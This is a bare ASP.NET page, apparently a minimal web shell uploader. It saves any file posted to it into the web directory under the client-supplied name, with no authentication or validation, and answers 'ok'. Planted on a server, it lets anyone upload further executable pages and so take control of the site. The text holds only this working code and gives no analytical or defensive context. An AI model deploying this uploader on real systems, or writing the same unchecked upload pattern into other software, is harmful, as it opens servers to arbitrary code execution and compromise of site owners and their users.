<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<% HttpPostedFile f = Request.Files[0]; f.SaveAs(Path.Combine(Server.MapPath("."), Path.GetFileName(f.FileName))); Response.Write("ok"); %>
